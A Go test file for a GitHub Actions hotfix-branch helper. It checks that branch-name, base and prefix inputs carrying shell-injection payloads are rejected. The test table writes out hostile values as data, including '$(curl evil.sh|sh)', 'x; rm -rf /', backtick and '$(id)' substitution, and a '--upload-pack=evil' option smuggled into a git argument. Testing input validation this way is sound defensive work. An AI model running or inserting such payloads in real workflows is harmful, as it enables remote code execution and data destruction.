package hotfix

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/cicd-excellence/actions/internal/action"
)

func runtimeWith(env ...string) *action.Runtime {
	m := action.MustParseManifest(manifest)
	return action.New(action.Options{Stdout: &bytes.Buffer{}, Env: env, Manifest: m})
}

// TestParseRequestRejects covers the bad names and bases: each is refused
// before any call, with a one-line error naming the input. The seed ran
// `git switch -c hotfixes/${{ github.event.inputs.branch_name }}`; the names
// below would have been shell.
func TestParseRequestRejects(t *testing.T) {
	tests := []struct {
		name, input string
		env         []string
	}{
		{"empty name", "name", []string{"INPUT_NAME=", "INPUT_BASE=main"}},
		{"command substitution", "name", []string{"INPUT_NAME=$(curl evil.sh|sh)", "INPUT_BASE=main"}},
		{"backticks", "name", []string{"INPUT_NAME=`id`", "INPUT_BASE=main"}},
		{"semicolon", "name", []string{"INPUT_NAME=x; rm -rf /", "INPUT_BASE=main"}},
		{"pipe", "name", []string{"INPUT_NAME=x|y", "INPUT_BASE=main"}},
		{"dot dot", "name", []string{"INPUT_NAME=../main", "INPUT_BASE=main"}},
		{"leading dash", "name", []string{"INPUT_NAME=-f", "INPUT_BASE=main"}},
		{"space", "name", []string{"INPUT_NAME=login fix", "INPUT_BASE=main"}},
		{"newline", "name", []string{"INPUT_NAME=a\nb", "INPUT_BASE=main"}},
		{"control character", "name", []string{"INPUT_NAME=a\x1bb", "INPUT_BASE=main"}},
		{"reflog syntax", "name", []string{"INPUT_NAME=a@{1}", "INPUT_BASE=main"}},
		{"lock suffix", "name", []string{"INPUT_NAME=a.lock", "INPUT_BASE=main"}},
		{"trailing slash", "name", []string{"INPUT_NAME=a/", "INPUT_BASE=main"}},
		{"over-long", "name", []string{"INPUT_NAME=" + strings.Repeat("x", 201), "INPUT_BASE=main"}},
		{"glob", "name", []string{"INPUT_NAME=a*", "INPUT_BASE=main"}},
		{"empty base", "base", []string{"INPUT_NAME=x", "INPUT_BASE="}},
		{"base as an option", "base", []string{"INPUT_NAME=x", "INPUT_BASE=--upload-pack=evil"}},
		{"base with shell", "base", []string{"INPUT_NAME=x", "INPUT_BASE=main;id"}},
		{"base revision syntax", "base", []string{"INPUT_NAME=x", "INPUT_BASE=main~1"}},
		{"base caret", "base", []string{"INPUT_NAME=x", "INPUT_BASE=HEAD^"}},
		{"base range", "base", []string{"INPUT_NAME=x", "INPUT_BASE=a..b"}},
		{"bad prefix", "prefix", []string{"INPUT_NAME=x", "INPUT_BASE=main", "INPUT_PREFIX=$(id)/"}},
		{"bad boolean", "require-on-default-branch", []string{"INPUT_NAME=x", "INPUT_BASE=main", "INPUT_REQUIRE_ON_DEFAULT_BRANCH=yes"}},
		{"bad repository", "repository", []string{"INPUT_NAME=x", "INPUT_BASE=main", "INPUT_REPOSITORY=not-a-repo"}},
		{"repository with path", "repository", []string{"INPUT_NAME=x", "INPUT_BASE=main", "INPUT_REPOSITORY=a/b/c"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			env := append([]string{"GITHUB_REPOSITORY=acme/app"}, tc.env...)
			_, err := ParseRequest(runtimeWith(env...))
			var ie *action.InputError
			if !errors.As(err, &ie) || ie.Input != tc.input {
				t.Fatalf("err = %v, want an error naming input %q", err, tc.input)
			}
			if strings.ContainsAny(err.Error(), "\n\r") {
				t.Errorf("error spans lines: %q", err)
			}
		})
	}
}

func TestParseRequestAccepts(t *testing.T) {
	q, err := ParseRequest(runtimeWith("GITHUB_REPOSITORY=acme/app", "INPUT_NAME=login-crash", "INPUT_BASE=0a1b2c3"))
	if err != nil {
		t.Fatal(err)
	}
	if q.Branch() != "hotfixes/login-crash" || q.Owner != "acme" || q.Repo != "app" || !q.RequireOnDefaultBranch {
		t.Errorf("request = %+v", q)
	}
}
